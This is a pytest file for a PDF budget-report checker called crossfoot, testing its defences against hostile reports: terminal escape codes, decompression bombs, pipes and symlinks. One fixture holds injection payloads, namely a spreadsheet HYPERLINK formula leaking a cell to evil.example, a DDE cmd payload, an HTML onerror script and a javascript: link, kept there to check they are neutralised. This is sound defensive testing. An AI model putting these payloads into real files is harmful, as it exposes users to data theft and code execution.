"""Hostile and broken reports (issue 15): one test per way a report can attack, each building its input.

Nothing reaches the terminal, nothing hides from the gate, nothing runs away, and nothing ends in a
traceback. End to end through the CLI in a subprocess, where the behaviour is the user's.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from tests.hostile_pdfs import (
    content_bomb_pdf,
    control_chars_pdf,
    dots_overlay,
    no_unicode_map_pdf,
    objstm_bomb_pdf,
)
from tests.test_robustness import assert_refused

TIMEOUT = 300
# What must never be written to a terminal: C0 controls but newline and tab, DEL, C1, bidi controls.
FORBIDDEN = {chr(c) for c in range(0x20) if chr(c) not in "\n\t"} | {"\x7f"} | {chr(c) for c in range(0x80, 0xA0)} \
    | {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F)}


def run(*args: str | Path, cache: Path, env_extra: dict[str, str] | None = None,
        stdin: int | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "CROSSFOOT_CACHE_DIR": str(cache), "CROSSFOOT_DATA_DIR": str(cache.parent / "data"),
           "PYTHONWARNINGS": "ignore", **(env_extra or {})}
    return subprocess.run([sys.executable, "-m", "crossfoot.cli", *map(str, args)], capture_output=True,
                          text=True, timeout=TIMEOUT, env=env, check=False, stdin=stdin)


@pytest.fixture()
def cache(tmp_path: Path) -> Path:
    return tmp_path / "cache"


def wrong_rate_pdf(path: Path, overlay: int = 0) -> Path:
    """A page with a growth rate the figures do not give (a problem), optionally under n invisible dots."""
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    c = canvas.Canvas(str(path))
    c.setFont("STSong-Light", 12)
    for i, line in enumerate(["某区某局2024年度部门决算", "一、收入支出决算总体情况说明",
                              "2024年度收入总计1,234.56万元，比上年增加100.00万元，增长20.0%。"]):
        c.drawString(60, 780 - 24 * i, line)
    c.setFillColorRGB(1, 1, 1)
    for i in range(overlay):
        c.rect(20 + (i * 7) % 550, 20 + (i * 13) % 800, 0.1, 0.1, stroke=0, fill=1)
    c.showPage()
    c.save()
    return path


# 1 -- text from a report never drives the terminal ---------------------------------------------------

@pytest.mark.parametrize("args", [("check", "--all"), ("check", "--format", "md", "--all"),
                                  ("check", "--format", "csv", "--all"), ("check", "--format", "json"),
                                  ("dump",), ("dump", "--format", "json")])
def test_control_characters_never_reach_the_terminal(tmp_path: Path, cache: Path, args: tuple[str, ...]) -> None:
    pdf = control_chars_pdf(tmp_path / "ctl.pdf")
    r = run(args[0], pdf, "--no-cache", *args[1:], cache=cache)
    assert r.returncode == 0, r.stderr
    leaked = sorted({hex(ord(ch)) for ch in r.stdout + r.stderr if ch in FORBIDDEN})
    assert not leaked, leaked
    if args[0] == "dump" and len(args) == 1:
        assert "␛]52;c;" in r.stdout and "␇" in r.stdout and "␦" in r.stdout  # visible, not silently lost
    if "json" in args:
        doc = json.loads(r.stdout)
        notes = doc["document"]["notes"]
        assert any("control character" in n for n in notes), notes


def test_control_characters_in_the_file_name_stay_visible(tmp_path: Path, cache: Path) -> None:
    name = tmp_path / "evil\x1b]0;pwned\x07.pdf"
    name.write_bytes(b"%PDF-1.4\n")  # damaged: the message names the file
    r = run("check", name, cache=cache)
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert not {ch for ch in r.stderr if ch in FORBIDDEN}, r.stderr
    assert "␛]0;pwned␇" in r.stderr


def test_text_export_is_cleaned_at_ingest_too(tmp_path: Path) -> None:
    from crossfoot.ingest import load

    f = tmp_path / "r.txt"
    f.write_text("某局2024年度部门决算\n收入总计100万元\x1b[2J，增长\u202e5%。\n", encoding="utf-8")
    report = load(f, use_cache=False)
    text = " ".join(b.text for b in report.blocks)
    assert "\x1b" not in text and "\u202e" not in text and "␛[2J" in text
    assert any("2 control characters" in n for n in report.notes)


def test_a_finding_on_text_with_controls_says_so(tmp_path: Path) -> None:
    from crossfoot.ingest import load
    from crossfoot.pipeline import analyse

    f = tmp_path / "r.txt"
    f.write_text("某区某局2024年度部门决算\n一、收入支出决算总体情况说明\n"
                 "2024年度收入总计1,234.56万元\x1b[2J，比上年增加100.00万元，增长20.0%。\n", encoding="utf-8")
    found = [x for x in analyse(load(f, use_cache=False)).findings if x.is_problem]
    assert found and all("␛[2J" in x.quote and "control characters" in x.message for x in found)


# 2 -- a report cannot pass the gate by being unreadable --------------------------------------------

def test_overlay_of_dots_does_not_pass_the_gate(tmp_path: Path, cache: Path) -> None:
    env = {"CROSSFOOT_PAGE_MAX_OBJECTS": "1000"}
    clean = run("check", wrong_rate_pdf(tmp_path / "plain.pdf"), "--no-cache", "--fail-on", "low",
                cache=cache, env_extra=env)
    assert clean.returncode == 1, clean.stdout + clean.stderr  # the problem is found on the plain page
    r = run("check", wrong_rate_pdf(tmp_path / "dots.pdf", overlay=2000), "--no-cache", "--fail-on", "low",
            cache=cache, env_extra=env)
    assert r.returncode == 3, r.stdout + r.stderr
    assert "incomplete: 1 of 1 pages not checked" in r.stdout and "no problems found\n" not in r.stdout
    # Without --fail-on nothing changes for scripts that only read the output.
    assert run("check", tmp_path / "dots.pdf", "--no-cache", cache=cache, env_extra=env).returncode == 0


def test_overlay_is_counted_before_pdfminer_builds_its_objects() -> None:
    from tests.hostile_pdfs import HELVETICA, _pages, stream

    from crossfoot.ingest.guard import drawing_ops, open_pdf

    data = _pages([stream(b"BT /F1 12 Tf 72 760 Td (Text.) Tj ET\n" + dots_overlay(3000), flate=True)],
                  HELVETICA % b"")
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        p = Path(d) / "dots.pdf"
        p.write_bytes(data)
        with open_pdf(p) as pdf:
            assert drawing_ops(pdf.pages[0]) == 3000


@pytest.mark.parametrize("fmt", ["text", "md", "csv", "json"])
def test_fonts_without_unicode_map_are_incomplete_in_every_format(tmp_path: Path, cache: Path, fmt: str) -> None:
    pdf = no_unicode_map_pdf(tmp_path / "nomap.pdf")
    r = run("check", pdf, "--no-cache", "--format", fmt, "--fail-on", "high", cache=cache)
    assert r.returncode == 3, r.stdout + r.stderr
    assert "incomplete: 2 of 2 pages not checked" in r.stdout
    if fmt == "json":
        assert json.loads(r.stdout)["document"]["complete"] is False


def test_batch_rows_say_partial(tmp_path: Path, cache: Path) -> None:
    from crossfoot import batch

    d = tmp_path / "in"
    d.mkdir()
    no_unicode_map_pdf(d / "nomap.pdf")
    out = tmp_path / "out.csv"
    batch.run_batch([str(d)], out, jobs=1, use_cache=False)
    rows = list(csv.DictReader(io.StringIO(batch.summary_path(out).read_text("utf-8-sig"))))
    assert [r["status"] for r in rows] == ["partial"]


# 3 -- bounded memory and time ---------------------------------------------------------------------

def run_measured(*args: str | Path, cache: Path, env_extra: dict[str, str] | None = None) -> tuple[int, str, str, float]:
    """Run the CLI in a fresh interpreter that reports the peak RSS of itself and every process it
    waited for (its page workers): ru_maxrss of RUSAGE_CHILDREN, in MB."""
    code = ("import resource, subprocess, sys; r = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
            "sys.stdout.write(r.stdout); sys.stderr.write(r.stderr); "
            "print('PEAK_KB', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr); "
            "sys.exit(r.returncode)")
    env = {**os.environ, "CROSSFOOT_CACHE_DIR": str(cache), "PYTHONWARNINGS": "ignore", **(env_extra or {})}
    p = subprocess.run([sys.executable, "-c", code, sys.executable, "-m", "crossfoot.cli", *map(str, args)],
                       capture_output=True, text=True, timeout=TIMEOUT, env=env, check=False)
    err_lines = p.stderr.splitlines()
    peak = next(int(ln.split()[1]) for ln in err_lines if ln.startswith("PEAK_KB"))
    err = "\n".join(ln for ln in err_lines if not ln.startswith("PEAK_KB"))
    return p.returncode, p.stdout, err, peak / 1024


def test_content_stream_bomb_loses_its_page_not_the_machine(tmp_path: Path, cache: Path) -> None:
    pdf = content_bomb_pdf(tmp_path / "bomb.pdf", inflated=1 << 30)  # 1 GB of content in a ~1 MB file
    assert pdf.stat().st_size < 2 << 20
    rc, out, err, peak_mb = run_measured("check", pdf, "--no-cache", "--fail-on", "low", cache=cache)
    assert rc == 3 and "Traceback" not in err, err
    assert "incomplete: 1 of 2 pages not checked" in out
    assert peak_mb < 1024, peak_mb  # the stream cap holds, far from the 1 GB asked for (the default stream cap: 128 MB)


def test_object_stream_bomb_is_refused_while_opening(tmp_path: Path, cache: Path) -> None:
    pdf = objstm_bomb_pdf(tmp_path / "bomb.pdf", inflated=1 << 30)
    rc, _, err, peak_mb = run_measured("check", pdf, "--no-cache", cache=cache)
    assert rc == 2 and len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
    assert "inflates past" in err
    assert peak_mb < 1024, peak_mb


def test_memory_limit_turns_a_large_page_into_a_note(tmp_path: Path, cache: Path) -> None:
    # With the stream cap lifted, the page worker's address-space limit is what stops the bomb.
    pdf = content_bomb_pdf(tmp_path / "bomb.pdf", inflated=1 << 30)
    rc, out, err, peak_mb = run_measured("check", pdf, "--no-cache", "--fail-on", "low", cache=cache,
                                         env_extra={"CROSSFOOT_MAX_STREAM_MB": "0",
                                                    "CROSSFOOT_PARSE_MEMORY_MB": "512"})
    assert rc == 3 and "Traceback" not in err, err
    assert "incomplete: 1 of 2 pages not checked" in out and "memory" in out
    assert peak_mb < 900, peak_mb


def test_report_deadline_lists_the_pages_not_parsed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.test_robustness import narrative_pdf

    from crossfoot.errors import CorruptPDF
    from crossfoot.ingest import budget, pages

    f = narrative_pdf(tmp_path / "n.pdf", pages=3)
    monkeypatch.setenv(budget.REPORT_SECONDS_ENV, "0.000001")
    # In worker processes: not even opened in time, which is one clean input error.
    with pytest.raises(CorruptPDF, match=budget.REPORT_SECONDS_ENV):
        pages.parse_pages(f)
    # In a process limited already (a batch worker): opened, then every page past the deadline is listed.
    monkeypatch.setattr(budget, "_LIMITED", True)
    monkeypatch.setenv("CROSSFOOT_JOBS", "1")
    parts = pages.parse_pages(f)
    assert [p.number for p in parts] == [1, 2, 3]
    assert all(not p.readable and budget.REPORT_SECONDS_ENV in p.note for p in parts)


def test_page_object_count_is_inside_the_guard(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from pdfplumber.page import Page as PlumberPage
    from tests.test_robustness import narrative_pdf

    from crossfoot.ingest import pdf

    f = narrative_pdf(tmp_path / "n.pdf")

    def broken(self: object) -> object:
        raise KeyError("damaged resource dictionary")

    monkeypatch.setattr(PlumberPage, "objects", property(broken))
    part = pdf.parse_page(f, 1)
    pdf._close_all()
    assert not part.readable and "cannot be parsed" in part.note and "KeyError" in part.note


def test_batch_flushes_every_finished_report(tmp_path: Path) -> None:
    from tests.test_robustness import narrative_pdf

    from crossfoot import batch

    d = tmp_path / "in"
    d.mkdir()
    for name in ("a.pdf", "b.pdf"):
        narrative_pdf(d / name)
    out = tmp_path / "out.parquet"
    seen: list[int] = []
    store_add = batch.Store.add

    def add(self: batch.Store, result: batch.Result) -> None:
        store_add(self, result)
        seen.append(len(batch._read_table(batch.summary_path(out), batch.SUMMARY_COLUMNS, "parquet")))

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(batch.Store, "add", add)
        batch.run_batch([str(d)], out, jobs=1, use_cache=False)
    assert seen == [1, 2]


# 4 -- only regular files ---------------------------------------------------------------------------

def test_fifo_is_refused_not_waited_on(tmp_path: Path, cache: Path) -> None:
    fifo = tmp_path / "x.pdf"
    os.mkfifo(fifo)
    assert_refused(run("check", fifo, cache=cache), "not a regular file")
    r = run("batch", tmp_path, "-o", tmp_path / "out.csv", cache=cache)
    assert r.returncode == 0 and "not a regular file" in r.stderr, r.stderr


def test_symlink_to_dev_zero_is_refused(tmp_path: Path, cache: Path) -> None:
    link = tmp_path / "zero.pdf"
    link.symlink_to("/dev/zero")
    assert_refused(run("check", link, cache=cache), "not a regular file")
    r = run("batch", link, "-o", tmp_path / "out.csv", cache=cache)
    assert r.returncode == 0 and "not a regular file" in r.stderr, r.stderr


# 5 -- no traceback, ever ----------------------------------------------------------------------------

def test_xlsx_export_with_control_characters(tmp_path: Path) -> None:
    from openpyxl import load_workbook
    from tests.review.conftest import SHA, make_analysis

    from crossfoot.findings import Finding
    from crossfoot.review.export import export_bytes
    from crossfoot.review.store import ReviewStore

    f = Finding("growth_rate", "medium", "inconsistent", 2, "收入\x01增长\x1b[2J5%", "5%", "4.0%", "m\x07")
    analysis = make_analysis((f,))
    with ReviewStore.open(tmp_path / "r.sqlite3", reviewer="a\x08b") as s:
        s.add_note(SHA, f.key, "note \x0b with \x00 controls")
        out = tmp_path / "w.xlsx"
        out.write_bytes(export_bytes(analysis, s, "xlsx"))
    ws = load_workbook(out)["findings"]
    values = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
    assert any("␛[2J" in v for v in values) and not any(ch in FORBIDDEN for v in values for ch in v)


# 6 -- outputs are safe to open -------------------------------------------------------------------

def _formula_analysis() -> object:
    from tests.review.conftest import make_analysis

    from crossfoot.findings import Finding

    return make_analysis((Finding("growth_rate", "medium", "inconsistent", 2,
                                  '=HYPERLINK("http://evil.example/?"&A1,"click") <img src=x onerror=alert(1)> '
                                  "[more](javascript:alert(1))", "-12%", "@SUM(A1)", "+cmd|' /C calc'!A0"),))


def test_check_csv_neutralises_formulas_like_export() -> None:
    from crossfoot.render import render_findings
    from crossfoot.review.export import export_bytes

    analysis = _formula_analysis()
    for text in (render_findings(analysis, "csv"), export_bytes(analysis, None, "csv").decode("utf-8")):  # type: ignore[arg-type]
        rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
        r = rows[0]
        assert r["quote"].startswith("'=HYPERLINK(") and r["expected"] == "'@SUM(A1)"
        assert r["arithmetic"].startswith("'+cmd") and r["stated"] == "-12%"  # a signed number stays data


def test_markdown_escapes_html_and_links_from_report_text() -> None:
    from crossfoot.render import render_findings
    from crossfoot.review.export import export_bytes

    analysis = _formula_analysis()
    for md in (render_findings(analysis, "md"), export_bytes(analysis, None, "md").decode("utf-8")):  # type: ignore[arg-type]
        assert "<img" not in md and "&lt;img" in md
        assert "](javascript" not in md and "javascript:" not in md
        assert "http://" not in md


# 7 -- careless paths do no harm -------------------------------------------------------------------

def test_export_onto_the_input_report_is_refused(tmp_path: Path, cache: Path) -> None:
    from tests.test_robustness import narrative_pdf

    pdf = narrative_pdf(tmp_path / "n.pdf")
    before = pdf.read_bytes()
    assert_refused(run("export", pdf, "--format", "md", "-o", pdf, cache=cache), "is the input report")
    assert_refused(run("check", pdf, "--format", "md", "-o", tmp_path / "." / "n.pdf", cache=cache))
    assert pdf.read_bytes() == before


def test_output_onto_a_device_or_pipe_is_refused(tmp_path: Path, cache: Path) -> None:
    from tests.test_robustness import narrative_pdf

    pdf = narrative_pdf(tmp_path / "n.pdf")
    fifo = tmp_path / "out.md"
    os.mkfifo(fifo)
    assert_refused(run("export", pdf, "-o", fifo, cache=cache), "device or pipe")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert_refused(run("check", pdf, "-o", "/dev/null", cache=cache), "device or pipe")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_output_onto_a_directory_names_the_users_path(tmp_path: Path, cache: Path) -> None:
    from tests.test_robustness import narrative_pdf

    pdf = narrative_pdf(tmp_path / "n.pdf")
    target = tmp_path / "somedir"
    target.mkdir()
    r = run("export", pdf, "--format", "csv", "-o", target, cache=cache)
    assert_refused(r, str(target), "is a directory")
    assert ".tmp" not in r.stderr


@pytest.mark.parametrize(("out", "given", "expect"), [
    ("w.xlsx", None, "xlsx"), ("w.csv", None, "csv"), ("w.json", None, "json"), ("w.md", None, "md"),
    ("w.out", None, "md"), (None, None, "md"), ("w.xlsx", "xlsx", "xlsx")])
def test_export_format_follows_the_extension(out: str | None, given: str | None, expect: str) -> None:
    from crossfoot.writers import format_for_output

    assert format_for_output(out, given, ("md", "csv", "xlsx", "json"), "md") == expect


def test_export_refuses_a_format_that_contradicts_the_extension(tmp_path: Path, cache: Path) -> None:
    from tests.test_robustness import narrative_pdf

    pdf = narrative_pdf(tmp_path / "n.pdf")
    assert_refused(run("export", pdf, "--format", "md", "-o", tmp_path / "x.xlsx", cache=cache), "extension")
    assert not (tmp_path / "x.xlsx").exists()
    # x.pdf is the marked-up report, and only export writes it
    assert_refused(run("check", pdf, "-o", tmp_path / "c.pdf", cache=cache), "export")
    r = run("export", pdf, "-o", tmp_path / "x.pdf", cache=cache)
    assert r.returncode == 0, r.stderr
    assert (tmp_path / "x.pdf").read_bytes()[:5] == b"%PDF-"
    r = run("export", pdf, "-o", tmp_path / "w.xlsx", cache=cache)
    assert r.returncode == 0, r.stderr
    assert (tmp_path / "w.xlsx").read_bytes()[:2] == b"PK"  # a workbook, not Markdown


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".parquet"])
def test_batch_writes_what_the_extension_says_and_resumes(tmp_path: Path, suffix: str) -> None:
    from tests.test_robustness import narrative_pdf

    from crossfoot import batch

    d = tmp_path / "in"
    d.mkdir()
    narrative_pdf(d / "a.pdf")
    out = tmp_path / f"findings{suffix}"
    assert batch.run_batch([str(d)], out, jobs=1, use_cache=False) == (1, 0)
    head = out.read_bytes()[:4]
    assert {".csv": head.startswith(b"\xef\xbb\xbfp"), ".xlsx": head[:2] == b"PK",
            ".parquet": head == b"PAR1"}[suffix]
    assert batch.summary_path(out).name == f"findings.summary{suffix}"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # owner-only, as every file crossfoot writes
    assert batch.run_batch([str(d)], out, jobs=1, use_cache=False) == (0, 1)  # resumes from its own format


def test_batch_refuses_an_unknown_output_extension(tmp_path: Path, cache: Path) -> None:
    r = run("batch", tmp_path, "-o", tmp_path / "out.txt", cache=cache)
    assert_refused(r, ".csv, .xlsx or .parquet")


def test_check_writes_a_workbook_when_asked(tmp_path: Path, cache: Path) -> None:
    from tests.test_robustness import narrative_pdf

    pdf = narrative_pdf(tmp_path / "n.pdf")
    assert_refused(run("check", pdf, "--format", "xlsx", cache=cache), "needs -o")
    r = run("check", pdf, "--all", "-o", tmp_path / "c.xlsx", cache=cache)
    assert r.returncode == 0, r.stderr
    assert (tmp_path / "c.xlsx").read_bytes()[:2] == b"PK"
